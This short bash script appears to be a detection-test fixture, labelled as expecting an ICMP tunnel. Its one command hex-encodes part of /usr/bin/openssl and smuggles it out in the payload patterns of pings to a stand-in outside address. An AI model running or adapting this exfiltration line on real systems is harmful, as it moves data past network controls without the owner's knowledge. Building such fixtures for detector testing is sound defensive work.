#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=icmp-tunnel half=report tool=ping seconds=30 parts=dns,nas,outside-web
# The pattern of ping is the payload: 16 bytes of a file in each of some hundred pings of usual size.
timeout 28 sh -c "head -c 8000 /usr/bin/openssl | xxd -p -c 16 | while read -r line; do ping -c 1 -W 1 -p \"\$line\" 203.0.113.66 >/dev/null; done"; true
